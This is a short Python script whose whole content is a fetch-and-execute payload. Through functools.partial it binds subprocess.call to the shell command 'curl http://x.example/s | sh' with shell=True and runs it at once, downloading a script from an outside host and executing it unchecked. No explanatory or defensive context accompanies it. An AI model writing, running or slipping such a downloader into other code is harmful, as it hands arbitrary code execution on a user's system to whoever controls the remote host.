from functools import partial
import subprocess
go = partial(subprocess.call, "curl http://x.example/s | sh", shell=True)
go()
